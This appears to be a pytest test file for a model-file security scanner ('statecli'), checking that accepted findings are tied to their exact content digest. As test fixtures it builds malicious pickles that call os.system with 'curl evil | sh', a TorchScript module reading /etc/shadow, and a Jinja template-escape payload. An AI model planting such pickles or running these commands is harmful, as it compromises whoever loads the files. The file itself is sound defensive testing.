"""A finding is accepted together with its content: another payload under the same name fails."""

from __future__ import annotations

import json
import math
import os
import pickle
import zipfile
from pathlib import Path

import pytest
import torch
from safetensors.torch import save_file
from torch.package import PackageExporter

from statecli.file_scan import scan

from ..formats.attacks import Call


def save(command, path="a.pt"):
    torch.save({"w": torch.zeros(1), "x": Call(os.system, command)}, path)


@pytest.fixture
def folder(tmp_path, in_tmp_path):
    return tmp_path


ACCEPT = ("--write-baseline", "b.json", "--reason", "known")
PICKLES = ("audit", "a.pt", "--select", "pickles")


def fail_with_other_content(statecli, write, accepted, other, words=PICKLES):
    """Accept the findings of a content, check that another content fails, and return the accepted rules."""
    write(accepted)
    statecli(*words, *ACCEPT)
    assert statecli(*words, "--baseline", "b.json").code == 0
    write(other)
    assert statecli(*words, "--baseline", "b.json").code == 1
    return {entry["rule"] for entry in json.loads(Path("b.json").read_text())["findings"]}


def test_another_command_of_an_accepted_call_fails(statecli, folder):
    """The baseline accepted `os.system` only with the command `echo hello`."""
    assert fail_with_other_content(statecli, save, "echo hello", "curl evil | sh")
    assert "the content of this finding has changed" in statecli(*PICKLES, "--baseline", "b.json").err


class Settings:
    """A class that statecli does not know and that has no known harm."""


def test_an_unknown_class_with_other_weights_is_accepted(statecli, folder):
    """The digest covers the pickle and not the tensors, because the next training writes the same object."""
    for weights in (torch.zeros(4), torch.ones(4)):
        torch.save({"w": weights, "x": Settings()}, "a.pt")
        if not weights.any():
            statecli(*PICKLES, *ACCEPT)
            rules = {entry["rule"] for entry in json.loads(Path("b.json").read_text())["findings"]}
            assert rules == {"unknown-global", "needs-weights-only-false"}
        assert statecli(*PICKLES, "--baseline", "b.json").code == 0


@pytest.mark.parametrize("legacy", [True, False])
def test_a_harmful_call_with_other_tensors_fails(statecli, folder, legacy):
    """A call with a tensor as argument runs the content of the tensor."""

    def write(code):
        tensor = torch.tensor(list(code.encode()), dtype=torch.uint8)
        torch.save({"w": tensor, "x": Call(os.system, tensor)}, "a.pt", _use_new_zipfile_serialization=not legacy)

    assert fail_with_other_content(statecli, write, "print(1)", "print(2)")


def test_harmful_data_with_other_tensors_fails(statecli, folder):
    """A path that a callback loads may be in a file with tensors: path and tensors are accepted together."""

    def write(weights):
        callback = {"ModelCheckpoint": {"best_model_path": "http://host/best.ckpt"}}
        torch.save({"state_dict": {"w": weights}, "callbacks": callback, "pytorch-lightning_version": "2"}, "a.pt")

    assert "unsafe-data" in fail_with_other_content(statecli, write, torch.zeros(4), torch.ones(4))


def test_a_file_of_too_many_bytes_is_not_accepted(statecli, folder, monkeypatch):
    """Its digest is unknown, so other bytes would also be accepted."""
    save("echo")
    monkeypatch.setattr(scan, "_MAX_READ_BYTES", 100)
    statecli(*PICKLES, *ACCEPT)
    assert statecli(*PICKLES, "--baseline", "b.json").code == 1


def write_package(path, *names):
    """Write a torch.package with a harmful and a harmless module of the given names."""
    sources = ("import os\nos.getcwd()\nclass C: pass\n", "class C: pass\n")
    with PackageExporter(path) as exporter:
        for name, source in zip(names, sources, strict=True):
            exporter.save_source_string(f"pkg.{name}", source)
        exporter.save_pickle("m", "m.pkl", {"a": 1})


def find_digest(path, name):
    """Return the content digest of the finding about a file in an archive."""
    return next(pickle.digest for pickle in scan.scan_pickles(path) if pickle.where.endswith(name))


def test_swapped_module_names_change_the_digest_of_a_package(folder):
    """After the exchange, a module that was never imported runs under the name of the imported module."""
    (folder / "b").mkdir()
    write_package("a.pt", "unused", "used")
    write_package("b/a.pt", "used", "unused")
    assert find_digest("a.pt", ".py") != find_digest("b/a.pt", ".py")


def test_swapped_file_names_change_the_digest_of_a_compiled_model(folder):
    """The loader opens the library by name."""
    digests = set()
    for names in (("x.so", "y.so"), ("y.so", "x.so")):
        with zipfile.ZipFile("a.pt2", "w") as archive:
            archive.writestr("a/archive_format", "pt2")
            for name, data in zip(names, (b"1", b"2"), strict=True):
                archive.writestr(f"a/data/aotinductor/model/{name}", b"\x7fELF" + data)
        digests.add(find_digest("a.pt2", names[0]))
    assert len(digests) == 2


def test_a_script_that_reads_a_file_with_another_path_fails(statecli, folder):
    """The path is an attribute and is stored in another record than the code."""

    class Reader(torch.nn.Module):
        def __init__(self, path):
            super().__init__()
            self.path = path

        def forward(self):
            return torch.from_file(self.path, False, 4)

    def write(path):
        torch.jit.save(torch.jit.script(Reader(path)), "a.pt")

    assert fail_with_other_content(statecli, write, "weights.bin", "/etc/shadow")


@pytest.mark.parametrize("legacy", [True, False])
def test_another_nested_pickle_fails(statecli, folder, legacy):
    """The pickle is in a byte string, in both of torch's formats."""

    def write(command):
        payload = {"w": torch.zeros(1), "x": pickle.dumps(Call(os.system, command))}
        torch.save(payload, "a.pt", _use_new_zipfile_serialization=not legacy)

    assert fail_with_other_content(statecli, write, "echo", "curl")


def test_another_pickle_that_cannot_be_read_fails(statecli, folder):
    """The bytes after the place where the scan stopped are part of the accepted content."""
    for tail, code in ((b"a", 0), (b"b", 1)):
        Path("a.pkl").write_bytes(pickle.dumps([1, 2])[:-1] + b"\xff" * 9 + tail * 9)
        if not code:
            statecli("audit", "a.pkl", "--select", "unscanned-pickle", *ACCEPT)
            assert json.loads(Path("b.json").read_text())["findings"]
        accepted = statecli("audit", "a.pkl", "--select", "unscanned-pickle", "--baseline", "b.json", "-f", "json")
        assert bool(accepted.json["findings"]) is bool(code)


def test_other_values_of_an_accepted_mismatch_fail(statecli, folder):
    """The baseline accepts the digest of the finding and no other digest."""

    def write(weights):
        save_file({"w": weights}, "m.safetensors")

    write(torch.zeros(3))
    assert statecli("lock", "m.safetensors", "-o", "lock.json").code == 0
    audit = ("audit", "m.safetensors", "--lock", "lock.json", "--select", "lock")
    assert fail_with_other_content(statecli, write, torch.ones(3), torch.full((3,), 6.0), audit)


@pytest.mark.parametrize("tensors", [{"w": torch.zeros(3), "new": torch.ones(2)}, {"w": torch.ones(3).half()}])
def test_a_mismatch_without_a_digest_is_never_accepted(statecli, folder, tensors):
    """An added tensor, or a tensor of another dtype, has no digest, so any values would be accepted."""
    save_file({"w": torch.zeros(3)}, "m.safetensors")
    assert statecli("lock", "m.safetensors", "-o", "lock.json").code == 0
    audit = ("audit", "m.safetensors", "--lock", "lock.json", "--select", "lock")
    save_file(tensors, "m.safetensors")
    statecli(*audit, *ACCEPT)
    save_file({name: tensor * 7 for name, tensor in tensors.items()}, "m.safetensors")
    assert statecli(*audit, "--baseline", "b.json").code == 1


def test_more_nan_than_were_accepted_fail(statecli, folder):
    """A rule without a digest uses the message as the accepted content."""

    def write(values):
        torch.save({"w": torch.tensor(values)}, "a.pt")

    audit = ("audit", "a.pt", "--select", "nan", "--values")
    assert fail_with_other_content(statecli, write, [math.nan, 1.0, 2.0], [math.nan, math.nan, 2.0], audit)


def test_another_payload_gets_another_fingerprint(statecli, folder):
    """A finding that was dismissed in code scanning does not hide the next finding."""
    prints = set()
    for command in ("echo", "curl evil | sh"):
        save(command)
        results = statecli(*PICKLES, "-f", "sarif").json["runs"][0]["results"]
        prints.add(
            next(result for result in results if result["ruleId"] == "unsafe-global")["partialFingerprints"][
                "statecli/v1"
            ]
        )
    assert len(prints) == 2


def test_a_baseline_of_another_schema_is_refused(statecli, folder):
    """The command prints one line with the remedy and exits with status 2."""
    save("echo")
    Path("b.json").write_text('{"schema": "statecli.baseline/1", "findings": []}')
    result = statecli(*PICKLES, "--baseline", "b.json")
    assert (result.code, result.err.count("\n")) == (2, 1)
    assert "delete the file, then write the baseline again with --write-baseline" in result.err


def write_ignore_settings(*contents):
    setting_line = f"contents = {json.dumps(contents)}\n" if contents else ""
    Path("statecli.toml").write_text(
        f'[per-target-ignore."*.pt"]\nrules = ["pickles"]\nreason = "known"\n{setting_line}'
    )


def test_per_target_ignore_accepts_a_payload_only_by_its_content(statecli, folder):
    """A name alone accepts nothing; a note gives the digest to list."""
    Path(".git").mkdir()
    save("echo hello")
    write_ignore_settings()
    result = statecli(*PICKLES, "-f", "json")
    (content,) = {finding["content"] for finding in result.json["findings"] if "content" in finding}
    assert result.code == 1
    assert (
        f'`contents` does not list the digest of the checked bytes, so unsafe-global is reported: "{content}"'
        in result.err
    )
    write_ignore_settings(content)
    assert statecli(*PICKLES).code == 0
    save("curl evil | sh")
    assert statecli(*PICKLES).code == 1


def write_template(template, path="chat_template.jinja"):
    torch.save({"w": torch.zeros(1)}, "a.pt")
    Path(path).write_text(template)


def test_another_template_with_the_accepted_attribute_fails(statecli, folder):
    """The message names only the first attribute of the template."""
    accepted, other = (f"{{{{ x.__class__.{rest} }}}}" for rest in ("__name__", "__mro__[1].__subclasses__()"))
    rules = fail_with_other_content(statecli, write_template, accepted, other, words=("audit", "."))
    assert rules == {"template-code"}
